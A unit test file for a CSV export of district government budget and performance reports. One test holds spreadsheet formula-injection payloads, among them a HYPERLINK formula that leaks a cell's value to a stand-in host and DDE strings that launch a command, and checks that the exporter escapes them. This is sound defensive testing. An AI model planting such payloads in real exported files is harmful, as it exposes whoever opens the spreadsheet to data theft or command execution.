import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { reportsCsv } from '../../src/site/csv.ts';
import { shippedReports } from './shipped-reports.ts';

const reports = shippedReports().map((s) => s.report);

describe('reportsCsv', () => {
  it('starts with a byte-order mark and has a header and one row per report', () => {
    const csv = reportsCsv(reports);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    const lines = csv.slice(1).trimEnd().split('\r\n');
    expect(lines[0]).toBe(
      'id,单位,单位全称,区,年度,预算数(万元),预算数为推算,支出数(万元),支出数为推算,执行率(%),执行率为推算,自评得分,等级,等级由得分推算,指标达成数,指标数',
    );
    expect(lines).toHaveLength(reports.length + 1);
  });

  it('leaves a value the report does not state empty, never 0, and flags a derived one', () => {
    const lvtian = reports.find((r) => r.id === '2023-conghua-lvtian-57ejqu')!;
    const row = reportsCsv([lvtian]).split('\r\n')[1]!;
    expect(row).toBe('2023-conghua-lvtian-57ejqu,吕田镇,广州市从化区吕田镇人民政府,从化区,2023,,否,11799.02,是,,否,97.82,优,是,9,9');
  });

  it('quotes cells with commas, quotes and line breaks', () => {
    const odd = { ...reports[0]!, name: '甲,"乙"', entity: '一\n二' };
    expect(reportsCsv([odd]).split('\r\n').slice(1).join('\r\n')).toContain(',"甲,""乙""","一\n二",');
  });

  it('makes every text cell that a spreadsheet would run as a formula read as text, and leaves numbers alone', () => {
    const hostile = [
      '=HYPERLINK("http://example.invalid/?"&A1,"点击")',
      "+cmd|' /C calc'!A0",
      '-2+3',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
    ];
    const base = reports[0]!;
    const rows = hostile.map((name, i) => ({
      ...base,
      id: `hostile-${i}`,
      name,
      entity: name,
      district: name,
      budget: { ...base.budget!, value: -500 },
    }));
    // Read back with a real CSV parser, as a spreadsheet would split the cells.
    const records: Record<string, string>[] = parse(reportsCsv(rows), { bom: true, columns: true, relax_quotes: false });
    expect(records).toHaveLength(hostile.length);
    records.forEach((record, i) => {
      for (const column of ['单位', '单位全称', '区']) {
        expect(record[column], column).toBe(`'${hostile[i]}`);
        expect(record[column]).not.toMatch(/^[=+\-@\t\r]/);
      }
      // A negative amount is a number, not text: it stays as written.
      expect(record['预算数(万元)']).toBe('-500');
    });
  });

  it('leaves ordinary text as it is', () => {
    const records: Record<string, string>[] = parse(reportsCsv(reports), { bom: true, columns: true });
    expect(records.map((r) => r['单位'])).toEqual(reports.map((r) => r.name));
  });
});
